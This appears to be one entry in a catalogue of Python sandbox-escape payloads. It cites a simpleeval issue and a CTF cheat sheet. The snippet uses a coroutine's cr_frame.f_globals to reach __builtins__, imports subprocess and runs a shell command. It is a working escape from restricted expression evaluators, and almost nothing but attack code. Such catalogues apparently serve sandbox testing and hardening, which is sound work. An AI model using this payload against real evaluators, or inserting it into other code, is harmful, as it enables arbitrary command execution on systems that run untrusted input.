# Source: https://github.com/danthedeckie/simpleeval/issues/138 (cr_frame variant); github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (asynchronous functions)
# Family: frame
# What: coroutine cr_frame.f_globals reaches builtins
async def a():
    pass

co = a()
g = co.cr_frame.f_globals
g["__builtins__"].__import__("subprocess").run(["id"])
